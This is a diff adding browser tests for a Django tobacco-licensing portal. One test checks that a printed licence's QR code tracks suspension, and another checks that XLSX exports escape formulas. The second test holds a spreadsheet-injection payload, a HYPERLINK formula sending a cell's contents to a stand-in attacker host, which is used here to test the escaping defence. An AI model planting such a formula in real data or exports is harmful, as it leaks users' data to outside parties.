@@ -1,0 +1,101 @@
+"""The registrar's walk-through in a real browser, on the demo data: the registrar prints the
+demo licence; its QR code, read back from the PDF, opens the verification page, which shows the
+licence valid; after an officer suspends it the same code shows it suspended; an XLSX export of
+the holder's records holds no formula a spreadsheet would run (Art. 9.2, 21.1(a))."""
+
+from __future__ import annotations
+
+import io
+import re
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.core.management import call_command
+
+from licensing.models import Licence, LicenceState, Party
+from tests.browser.test_admin_flow import decide
+from tests.documents.test_printing import decoded_qr_codes, pdf_text
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+DEMO_PASSWORD = "demo-password-2026"
+HOLDER = "Fjordtobakk AS"
+# Applicant-supplied text that a spreadsheet would run as a formula if it were exported as is.
+HOSTILE = '=HYPERLINK("https://attacker.invalid/?"&A1,"Click")'
+
+
+def log_in(page, live_server, username: str) -> None:
+    page.goto(f"{live_server.url}/admin/login/")
+    page.get_by_label("Username").fill(username)
+    page.get_by_label("Password").fill(DEMO_PASSWORD)
+    page.get_by_role("button", name="Log in").click()
+    page.wait_for_url(re.compile(r"/admin/$"))
+
+
+@pytest.fixture
+def demo(settings, live_server):
+    settings.DEBUG = True  # load_demo refuses to run in production
+    settings.PORTAL_BASE_URL = live_server.url  # the QR code opens this test's server
+    call_command("load_demo", stdout=io.StringIO())
+    settings.DEBUG = False
+
+
+def test_registrar_prints_the_demo_licence_and_its_qr_code_follows_its_state(
+    demo, live_server, new_page, tmp_path: Path
+):
+    licence = Licence.objects.filter(holder__legal_name=HOLDER, state=LicenceState.ACTIVE).first()
+    assert licence is not None, "the demo data has an active licence of Fjordtobakk AS"
+
+    registrar = new_page(viewport={"width": 1280, "height": 900})
+    log_in(registrar, live_server, "registrar")
+    registrar.goto(f"{live_server.url}/admin/licensing/licence/?q={licence.number}")
+    registrar.get_by_role("link", name=licence.number).click()
+    decide(registrar, "print_licence")
+    registrar.reload()
+    with registrar.expect_download() as download:
+        registrar.locator(".inline-group").get_by_role("link", name="Download").first.click()
+    pdf = Path(download.value.path()).read_bytes()
+    assert licence.number in pdf_text(pdf)
+
+    [url] = decoded_qr_codes(pdf, tmp_path)
+    assert url == f"{live_server.url}/verify/{licence.number}/"
+
+    public = new_page()
+    public.goto(url)
+    assert public.get_by_role("heading", level=1).inner_text() == "Valid licence"
+
+    officer = new_page()
+    log_in(officer, live_server, "officer")
+    officer.goto(f"{live_server.url}/admin/licensing/licence/{licence.pk}/change/")
+    decide(officer, "suspend", Reason="Excise returns not filed (Art. 6.3(a)).")
+
+    public.goto(url)
+    assert public.get_by_role("heading", level=1).inner_text() == "Not a valid licence"
+    assert public.locator(".tag").inner_text() == "suspended"
+
+
+def test_an_export_of_the_holders_records_opens_safely_in_a_spreadsheet(
+    demo, live_server, new_page
+):
+    party = Party.objects.get(legal_name=HOLDER)
+    Party.objects.filter(pk=party.pk).update(trade_name=HOSTILE)
+
+    registrar = new_page(viewport={"width": 1280, "height": 900})
+    log_in(registrar, live_server, "registrar")
+    registrar.goto(f"{live_server.url}/admin/licensing/party/?q={party.registration_number}")
+    registrar.locator(f'input[name="_selected_action"][value="{party.pk}"]').check()
+    registrar.locator('select[name="action"]').select_option("export_selected_records")
+    registrar.get_by_role("button", name="Go").click()
+    registrar.get_by_label("Format").select_option("xlsx")
+    with registrar.expect_download() as download:
+        registrar.get_by_role("button", name="Export").click()
+
+    assert download.value.suggested_filename.endswith(".xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(Path(download.value.path()).read_bytes()))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = [str(cell.value) for cell in cells if cell.value is not None]
+    assert HOLDER in values
+    # The hostile text is there, as text: the escaping quote keeps it from being a formula.
+    assert f"'{HOSTILE}" in values
